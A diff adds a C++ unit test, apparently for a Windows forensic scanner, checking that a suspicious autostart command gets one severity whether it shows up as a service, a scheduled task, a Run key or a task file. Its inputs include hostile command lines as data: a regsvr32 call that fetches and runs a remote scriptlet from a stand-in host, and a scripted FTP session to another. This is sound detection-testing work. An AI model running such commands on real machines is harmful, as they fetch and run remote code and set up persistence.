@@ -227,6 +227,43 @@ TEST(WindowsEvents, ServicesFromDropFoldersAreFoundWhateverTheirName) {
   EXPECT_EQ(ias->actions.back().target, "C:\\Windows\\Fonts\\csrss.exe");
 }
 
+// ---- 10. one verdict wherever a command is registered ------------------------------------------------------
+
+TEST(WindowsEvents, TheSameCommandGetsTheSameVerdictFromEverySource) {
+  for (const std::string command : {"C:\\Windows\\debug\\lsmosee.exe", "cmd /c echo open ftp.example>s&ftp -s:s",
+                                    "regsvr32 /u /s /i:http://js.example:280/v.sct scrobj.dll",
+                                    "C:\\Windows\\Temp\\setup.exe", "C:\\Program Files\\App\\app.exe"}) {
+    std::vector<model::Severity> seen;
+    auto severity_of = [&](const std::vector<model::Finding>& found) {
+      for (const auto& f : found)
+        if (f.rule_id == kServiceInstalledRule || f.rule_id == kTaskSuspiciousRule ||
+            f.rule_id == kRegistryAutostartRule)
+          return f.severity;
+      return model::Severity::Informational;
+    };
+    seen.push_back(severity_of(scan({service_installed(1, "svc", command)}, "System.evtx")));
+    seen.push_back(severity_of(scan({task_created(
+        1, "\\t",
+        task_xml(command.substr(0, command.find(' ')),
+                 command.find(' ') == std::string::npos ? "" : command.substr(command.find(' ') + 1)))})));
+    model::Event run;
+    run.category = "registry_set";
+    run.product = "windows";
+    run.set(model::Field::TargetObject, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x");
+    run.set(model::Field::Details, command);
+    seen.push_back(severity_of(test::builtin_findings({run}, "SOFTWARE")));
+    model::Event task;
+    task.category = "scheduled_task";
+    task.product = "windows";
+    task.set(model::Field::TaskName, "\\t");
+    task.set(model::Field::CommandLine, command);
+    seen.push_back(severity_of(test::builtin_findings({task}, "C/Windows/System32/Tasks/t")));
+    const model::Severity want = judge_windows_command(command).severity();
+    for (size_t k = 0; k < seen.size(); ++k)
+      EXPECT_EQ(seen[k], want) << command << " from source " << k << " (service, 4698, Run key, task file)";
+  }
+}
+
 // ---- 3. accounts: Windows Setup's first user is not an attacker ------------------------------------------------
 
 test::EvtxEvent security(uint16_t id, uint64_t second, std::vector<std::pair<std::string, std::string>> data) {
